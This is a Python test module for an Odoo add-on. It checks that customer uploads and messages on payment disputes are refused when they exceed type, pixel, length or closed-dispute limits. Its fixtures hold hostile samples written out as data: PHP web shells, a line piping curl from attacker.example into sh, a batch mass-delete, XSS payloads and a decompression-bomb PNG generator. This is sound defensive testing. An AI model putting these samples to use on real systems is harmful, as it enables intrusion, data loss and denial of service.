"""Issue 11, points 6, 8, 9, 10: what a customer sends is bounded on the models, whatever the way in
(our forms, Odoo's chatter routes, JSON-RPC): types by content (an allowlist), picture pixels read
from the header before anything decodes them, text lengths, and "a closed dispute is final"."""

import base64
import io
import json
import struct
import zipfile
import zlib

from PIL import Image

from odoo.exceptions import UserError, ValidationError
from odoo.http import Request
from odoo.tests import HttpCase, tagged

from .test_payer_dispute import PDF, PayerDisputeCommon

# ---------------------------------------------------------------------- samples


def png_of(width, height):
    """A real, decodable PNG of ``width`` x ``height`` black pixels (1-bit grayscale): a few KB,
    since rows of zeros compress, however many pixels it has (a decompression bomb)."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def picture(image_format):
    stream = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(stream, format=image_format)
    return stream.getvalue()


# Odoo keeps PIL's WEBP and TIFF plugins unloaded (odoo.tools.image): small real files, made by PIL.
WEBP_LOSSLESS = (
    b"RIFF\x1e\x00\x00\x00WEBPVP8L\x11\x00\x00\x00/\x03\x80\x00\x00\x07P\xadjU\xab\xff\x81\x88\xe8\x7f\x00\x00"
)
WEBP_LOSSY = (
    b"RIFF$\x00\x00\x00WEBPVP8 \x18\x00\x00\x000\x01\x00\x9d\x01*\x05\x00\x07\x00\x02\xc0L%\xa4\x00\x03p"
    b"\x00\xfe\xf7\xe0\x80\x00"
)
TIFF = (
    b"II*\x00\x08\x00\x00\x00\t\x00\x00\x01\x04\x00\x01\x00\x00\x00\x04\x00\x00\x00\x01\x01\x04\x00\x01\x00\x00\x00"
    b"\x03\x00\x00\x00\x02\x01\x03\x00\x01\x00\x00\x00\x08\x00\x00\x00\x03\x01\x03\x00\x01\x00\x00\x00\x01\x00"
    b"\x00\x00\x06\x01\x03\x00\x01\x00\x00\x00\x01\x00\x00\x00\x11\x01\x04\x00\x01\x00\x00\x00z\x00\x00\x00\x16"
    b"\x01\x04\x00\x01\x00\x00\x00\x03\x00\x00\x00\x17\x01\x04\x00\x01\x00\x00\x00\x0c\x00\x00\x00\x1c\x01\x03"
    b"\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00ZZZZZZZZZZZZ"
)


def zip_of(entries, first=None):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        if first:  # OpenDocument: the uncompressed "mimetype" entry comes first
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])
        for name, data in entries.items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return stream.getvalue()


CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
ODF_ENTRIES = {"content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"}
# The header of an OLE compound file with Word's subheader at 0x200 (what .doc, .xls, .msg are).
OLE = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + b"\x00" * 16
    + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    + b"\x00" * 480
    + b"\xec\xa5\xc1\x00"
    + b"\x00" * 508
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64

ALLOWED = {
    "invoice.pdf": PDF,
    "photo.png": picture("PNG"),
    "photo.jpg": picture("JPEG"),
    "photo.jpeg": picture("JPEG"),
    "photo.gif": picture("GIF"),
    "photo.webp": WEBP_LOSSLESS,
    "photo2.webp": WEBP_LOSSY,
    "scan.tif": TIFF,
    "scan.tiff": TIFF,
    "letter.docx": zip_of({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w:document/>"}),
    "figures.xlsx": zip_of({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<workbook/>"}),
    "letter.odt": zip_of(ODF_ENTRIES, first=("mimetype", "application/vnd.oasis.opendocument.text")),
    "figures.ods": zip_of(ODF_ENTRIES, first=("mimetype", "application/vnd.oasis.opendocument.spreadsheet")),
    "letter.doc": OLE,
    "figures.xls": OLE,
    "mail.msg": OLE,
    "note.txt": "The total is wrong.\nImport duties were charged twice: 12,50 €.\n".encode(),
    "lines.csv": b"date;amount\n2026-01-01;12.50\n2026-02-01;-3.00\n",
    "mail.eml": b"From: paula@brightway.example.com\nTo: ar@example.com\nSubject: Invoice\n\nPlease check.\n",
}

# Each kind the issue names, under a name whose extension is allowed (the name says nothing).
REFUSED = {
    "PHP": ("report.txt", b"<?php system($_GET['cmd']); ?>\n"),
    "PHP as a PDF": ("invoice.pdf", b"<?php echo shell_exec($_GET['c']); ?>\n"),
    "Python": ("note.txt", b"import os\nos.system('curl http://attacker.example | sh')\n"),
    "Python with a shebang": ("note.csv", b"#!/usr/bin/env python3\nprint('hello')\n"),
    "batch": ("note.txt", b"@echo off\r\ndel /q /s C:\\Users\\*\r\n"),
    "VBScript": ("note.txt", b'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc.exe"\n'),
    "Mach-O": ("scan.pdf", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 200),
    "Mach-O as a picture": ("photo.png", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200),
    "Java class": ("letter.doc", b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x1d" + b"\x00" * 100),
    "HTML after 2 KB": ("note.txt", b"Total line\n" * 300 + b"<html><body><script>alert(1)</script></body></html>"),
    "SVG after 2 KB": ("lines.csv", b"a;b\n" * 700 + b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "renamed .exe": ("invoice.pdf", EXE),
    "a PNG named .jpg": ("photo.jpg", picture("PNG")),
    "a plain zip named .docx": ("letter.docx", zip_of({"payload.exe": EXE})),
    "a document with macros": (
        "letter.docx",
        zip_of({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "x", "word/vbaProject.bin": "x"}),
    ),
}

PICTURE_400_MP = png_of(20000, 20000)
PICTURE_144_MP = png_of(12000, 12000)
PICTURE_25_MP = png_of(5000, 5000)


class TrustUploadsCommon(PayerDisputeCommon):
    def _closed_dispute(self):
        dispute = self._dispute(resolution_note="A credit note is issued.")
        dispute.action_resolve()
        return dispute

    def _as_portal(self, record):
        """``record`` as the portal user, in sudo as Odoo's chatter routes post (the user stays
        the portal user: ``env.user``)."""
        return record.with_user(self.portal_user).sudo()


# ---------------------------------------------------------------------- content (points 8, 9, 10)


@tagged("post_install", "-at_install")
class TestTrustUploadContent(TrustUploadsCommon):
    def test_each_allowed_kind_is_accepted(self):
        check = self.env["payer.dispute"]._payer_check_files
        for name, content in ALLOWED.items():
            with self.subTest(name=name):
                check([(name, content)])

    def test_each_refused_kind_is_refused_whatever_its_name(self):
        check = self.env["payer.dispute"]._payer_check_files
        for kind, (name, content) in REFUSED.items():
            with self.subTest(kind=kind), self.assertRaisesRegex(UserError, "cannot be accepted"):
                check([(name, content)])

    def test_picture_of_400_megapixels_is_refused_from_its_header(self):
        self.assertLess(len(PICTURE_400_MP), 100_000, "a tiny file")
        with self.assertRaisesRegex(UserError, "too large: pictures are limited to 40 megapixels"):
            self.env["payer.dispute"]._payer_check_files([("photo.png", PICTURE_400_MP)])

    def test_ten_pictures_of_144_megapixels_are_refused(self):
        files = [(f"photo{i}.png", PICTURE_144_MP) for i in range(10)]
        with self.assertRaisesRegex(UserError, "pictures are limited to 40 megapixels"):
            self.env["payer.dispute"]._payer_check_files(files)

    def test_pictures_too_large_together_are_refused(self):
        check = self.env["payer.dispute"]._payer_check_files
        check([(f"photo{i}.png", PICTURE_25_MP) for i in range(8)])  # 200 megapixels
        with self.assertRaisesRegex(UserError, "too large together"):
            check([(f"photo{i}.png", PICTURE_25_MP) for i in range(9)])

    def test_own_category_is_limited_to_100_characters(self):
        self._dispute(category_id=False, category_other="x" * 100)
        with self.assertRaisesRegex(ValidationError, "limited to 100 characters"):
            self._dispute(invoice=self._payer_invoice(200.0), category_id=False, category_other="x" * 200_000)

    def test_receipt_email_is_limited(self):
        values = {"partner_id": self.customer.id, "company_id": self.company.id, "currency_id": self.usd.id}
        self.env["payer.payment"].sudo().create({**values, "email": "paula@brightway.example.com"})
        with self.assertRaisesRegex(ValidationError, "Email addresses are limited to 254 characters"):
            self.env["payer.payment"].sudo().create({**values, "email": "p" * 100_000 + "@example.com"})


# ---------------------------------------------------------------------- posting rules on the model (point 6)


@tagged("post_install", "-at_install")
class TestTrustCustomerPostRules(TrustUploadsCommon):
    def test_customer_cannot_post_on_a_closed_dispute_through_message_post(self):
        dispute = self._closed_dispute()
        count = len(dispute.message_ids)
        with self.assertRaisesRegex(UserError, "This dispute is closed"):
            self._as_portal(dispute).message_post(body="One more thing", message_type="comment")
        self.assertEqual(len(dispute.message_ids), count)

    def test_customer_message_is_limited_in_length_through_message_post(self):
        dispute = self._dispute()
        with self.assertRaisesRegex(UserError, "Messages are limited to 5000 characters"):
            self._as_portal(dispute).message_post(body="x" * 100_000, message_type="comment")

    def test_customer_files_follow_the_rules_through_message_post(self):
        dispute = self._dispute()
        for name, content, message in (
            ("tool.exe", EXE, "cannot be accepted"),
            ("invoice.pdf", EXE, "cannot be accepted"),
            ("page.html", b"<html><script>alert(1)</script></html>", "cannot be accepted"),
            ("big.pdf", PDF + b"0" * (12 * 1024 * 1024), "too large"),
            ("photo.png", PICTURE_400_MP, "40 megapixels"),
        ):
            with self.subTest(name=name), self.assertRaisesRegex(UserError, message):
                self._as_portal(dispute).message_post(
                    body="See attached", message_type="comment", attachments=[(name, content)]
                )
        self.assertFalse(self.env["ir.attachment"].search([("res_model", "=", "payer.dispute")]))

    def test_question_on_an_invoice_follows_the_rules_through_message_post(self):
        invoice = self._as_portal(self.invoice)
        with self.assertRaisesRegex(UserError, "Messages are limited"):
            invoice.message_post(body="x" * 100_000, message_type="comment")
        with self.assertRaisesRegex(UserError, "cannot be accepted"):
            invoice.message_post(body="Proof", message_type="comment", attachments=[("proof.pdf", EXE)])
        with self.assertRaisesRegex(UserError, "Messages are limited"):
            self.invoice._payer_post_question(self.contact, "x" * 5001)

    def test_comment_written_in_a_customers_name_follows_the_rules(self):
        dispute = self._closed_dispute()
        with self.assertRaisesRegex(UserError, "This dispute is closed"):
            dispute.message_post(body="Hello", author_id=self.contact.id, message_type="comment")

    def test_customer_cannot_edit_a_message_beyond_the_limit(self):
        dispute = self._dispute()
        message = dispute._payer_portal_post(self.contact, "Short")
        with self.assertRaisesRegex(UserError, "Messages are limited"):
            self._as_portal(dispute)._message_update_content(message.sudo(), body="x" * 100_000)
        self.assertIn("Short", message.body)

    def test_account_manager_may_post_a_note_on_a_closed_dispute(self):
        dispute = self._closed_dispute().with_user(self.manager)
        note = dispute.message_post(
            body="Credit note sent; " + "details " * 1000,
            message_type="comment",
            subtype_xmlid="mail.mt_note",
            attachments=[("export.zip", zip_of({"a.txt": "x"}))],
        )
        self.assertEqual(note.attachment_ids.name, "export.zip")

    def test_customer_thumbnail_over_the_bound_is_refused(self):
        attachment = self.env["ir.attachment"].create({"name": "proof.pdf", "raw": PDF})
        with self.assertRaisesRegex(UserError, "40 megapixels"):
            attachment.with_user(self.portal_user).sudo().write({"thumbnail": base64.b64encode(PICTURE_400_MP)})
        self.assertFalse(attachment.thumbnail)

    def test_pictures_over_the_bound_are_never_decoded(self):
        # An internal upload is kept as sent, not decoded (nor resized); a customer's is refused.
        attachment = self.env["ir.attachment"].create({"name": "plan.png", "raw": PICTURE_144_MP})
        self.assertEqual(attachment.raw, PICTURE_144_MP)
        with self.assertRaisesRegex(UserError, "40 megapixels"):
            self.env["ir.attachment"].with_user(self.portal_user).create(
                {"name": "plan.png", "raw": PICTURE_144_MP, "res_model": "mail.compose.message", "res_id": 0}
            )


# ---------------------------------------------------------------------- every way in, over HTTP (points 6, 9)


@tagged("post_install", "-at_install")
class TestTrustCustomerPostRoutes(TrustUploadsCommon, HttpCase):
    """As a real portal user (and a guest with the dispute's link) through Odoo's own routes."""

    def setUp(self):
        super().setUp()
        self.authenticate("payer_paula", "payer_paula")

    def _upload(self, thread, name, content, pending=True, **access):
        response = self.url_open(
            "/mail/attachment/upload",
            data={
                "thread_model": thread._name,
                "thread_id": str(thread.id),
                "is_pending": "true" if pending else "false",
                "csrf_token": Request.csrf_token(self),
                **access,
            },
            files={"ufile": (name, content, "application/octet-stream")},
        )
        self.assertEqual(response.status_code, 200, "a clear message, never a 500")
        return response.json()

    def _jsonrpc(self, route, params):
        response = self.url_open(
            route,
            data=json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params}),
            headers={"Content-Type": "application/json"},
        )
        self.assertEqual(response.status_code, 200, "a clear message, never a 500")
        return response.json()

    def _post_message(self, thread, body, attachment_ids=(), tokens=(), **access):
        post_data = {"body": body, "message_type": "comment", "subtype_xmlid": "mail.mt_comment"}
        if attachment_ids:
            post_data.update(attachment_ids=list(attachment_ids), attachment_tokens=list(tokens))
        return self._jsonrpc(
            "/mail/message/post",
            {"thread_model": thread._name, "thread_id": thread.id, "post_data": post_data, **access},
        )

    def _assert_refused(self, result, message):
        error = result.get("error")
        self.assertTrue(error, f"refused: {result}")
        text = error if isinstance(error, str) else error["data"]["message"]
        self.assertIn(message, text)

    def _attachments_named(self, name):
        return self.env["ir.attachment"].sudo().search([("name", "=", name)])

    # ------------------------------------------------------------------ /mail/attachment/upload

    def test_mail_upload_refuses_what_the_form_refuses(self):
        dispute = self._dispute()
        for name, content, message in (
            ("tool.exe", EXE, "cannot be accepted"),
            ("tool.pdf", EXE, "cannot be accepted"),
            ("big.pdf", PDF + b"0" * (12 * 1024 * 1024), "too large"),
            ("page.html", b"<html><body><script>alert(1)</script></body></html>", "cannot be accepted"),
            ("photo.png", PICTURE_400_MP, "40 megapixels"),
        ):
            for pending in (True, False):
                with self.subTest(name=name, pending=pending):
                    self._assert_refused(self._upload(dispute, name, content, pending=pending), message)
                    self.assertFalse(self._attachments_named(name), "nothing stored")

    def test_mail_upload_refuses_ten_pictures_of_144_megapixels(self):
        dispute = self._dispute()
        for index in range(10):
            self._assert_refused(self._upload(dispute, f"photo{index}.png", PICTURE_144_MP), "40 megapixels")
        self.assertFalse(self.env["ir.attachment"].sudo().search([("name", "=like", "photo%.png")]))

    def test_mail_upload_refuses_a_file_on_a_closed_dispute(self):
        dispute = self._closed_dispute()
        self._assert_refused(self._upload(dispute, "proof.pdf", PDF), "This dispute is closed")
        self.assertFalse(self._attachments_named("proof.pdf"))

    def test_mail_upload_and_post_of_an_allowed_file(self):
        dispute = self._dispute()
        uploaded = self._upload(dispute, "proof.pdf", PDF)
        attachment = self.env["ir.attachment"].browse(uploaded["data"]["attachment_id"])
        token = attachment.sudo()._get_ownership_token()
        result = self._post_message(dispute, "Here is the proof", [attachment.id], [token])
        self.assertNotIn("error", result)
        message = dispute.message_ids.filtered(lambda m: m.author_id == self.contact)[:1]
        self.assertEqual(message.attachment_ids, attachment)

    def test_mail_upload_on_an_invoice_follows_the_rules(self):
        self._assert_refused(self._upload(self.invoice, "proof.pdf", EXE), "cannot be accepted")
        self._assert_refused(self._upload(self.invoice, "photo.png", PICTURE_400_MP), "40 megapixels")
        self.assertFalse(self._attachments_named("proof.pdf") | self._attachments_named("photo.png"))

    # ------------------------------------------------------------------ /mail/message/post

    def test_mail_message_post_refuses_a_closed_dispute(self):
        dispute = self._closed_dispute()
        count = len(dispute.message_ids)
        self._assert_refused(self._post_message(dispute, "Still not paid back"), "This dispute is closed")
        self.assertEqual(len(dispute.message_ids), count)

    def test_mail_message_post_refuses_100000_characters(self):
        dispute = self._dispute()
        count = len(dispute.message_ids)
        self._assert_refused(self._post_message(dispute, "x" * 100_000), "Messages are limited to 5000")
        self.assertEqual(len(dispute.message_ids), count)

    def test_mail_message_post_on_an_invoice_refuses_100000_characters(self):
        count = len(self.invoice.message_ids)
        self._assert_refused(self._post_message(self.invoice, "x" * 100_000), "Messages are limited to 5000")
        self.assertEqual(len(self.invoice.message_ids), count)

    def test_guest_with_the_disputes_link_cannot_post_on_it_once_closed(self):
        dispute = self._closed_dispute()
        token = dispute._portal_ensure_token()
        self.authenticate(None, None)
        count = len(dispute.message_ids)
        self._assert_refused(self._post_message(dispute, "Hello", token=token), "This dispute is closed")
        self._assert_refused(self._upload(dispute, "proof.pdf", PDF, token=token), "This dispute is closed")
        self.assertEqual(len(dispute.message_ids), count)

    # ------------------------------------------------------------------ JSON-RPC

    def test_json_rpc_message_post_follows_the_rules(self):
        dispute = self._dispute()
        closed = self._closed_dispute_on(self._payer_invoice(300.0))
        count = len(dispute.message_ids) + len(closed.message_ids)

        def call(record, **kwargs):
            return self._jsonrpc(
                "/web/dataset/call_kw/payer.dispute/message_post",
                {
                    "model": "payer.dispute",
                    "method": "message_post",
                    "args": [[record.id]],
                    "kwargs": {"message_type": "comment", **kwargs},
                },
            )

        self._assert_refused(call(closed, body="Hello"), "This dispute is closed")
        self._assert_refused(call(dispute, body="x" * 100_000), "Messages are limited")
        self._assert_refused(call(dispute, body="Hi", attachments=[["run.txt", "@echo off\r\n"]]), "cannot be accepted")
        self._assert_refused(call(dispute, body="Hi", subject="s" * 10_000), "Subjects are limited")
        self.assertEqual(len(dispute.message_ids) + len(closed.message_ids), count)

    def test_json_rpc_message_post_on_an_invoice_follows_the_rules(self):
        count = len(self.invoice.message_ids)
        for kwargs, message in (
            ({"body": "x" * 100_000}, "Messages are limited"),
            ({"body": "Proof", "attachments": [["proof.pdf", "<?php system($_GET['c']); ?>"]]}, "cannot be accepted"),
        ):
            with self.subTest(message=message):
                result = self._jsonrpc(
                    "/web/dataset/call_kw/account.move/message_post",
                    {
                        "model": "account.move",
                        "method": "message_post",
                        "args": [[self.invoice.id]],
                        "kwargs": {"message_type": "comment", **kwargs},
                    },
                )
                self._assert_refused(result, message)
        self.assertEqual(len(self.invoice.message_ids), count)

    def _closed_dispute_on(self, invoice):
        dispute = self._dispute(invoice=invoice, resolution_note="Done")
        dispute.action_resolve()
        return dispute

    # ------------------------------------------------------------------ our forms

    def test_form_refuses_a_php_file_named_pdf(self):
        response = self.url_open(
            f"/my/payer-portal/invoice/{self.invoice.id}/dispute",
            data={
                "category_id": str(self.category.id),
                "description": "We were charged twice",
                "amount": "100",
                "csrf_token": Request.csrf_token(self),
            },
            files={"attachments": ("invoice.pdf", REFUSED["PHP as a PDF"][1], "application/pdf")},
            allow_redirects=False,
        )
        self.assertEqual(response.status_code, 400)
        self.assertIn("cannot be accepted", response.text)
        self.assertFalse(self.invoice.payer_dispute_ids)

    def test_form_refuses_an_own_category_over_100_characters(self):
        response = self.url_open(
            f"/my/payer-portal/invoice/{self.invoice.id}/dispute",
            data={
                "category_id": "other",
                "category_other": "x" * 200_000,
                "description": "We were charged twice",
                "amount": "100",
                "csrf_token": Request.csrf_token(self),
            },
            allow_redirects=False,
        )
        self.assertEqual(response.status_code, 400)
        self.assertIn("limited to 100 characters", response.text)
        self.assertFalse(self.invoice.payer_dispute_ids)
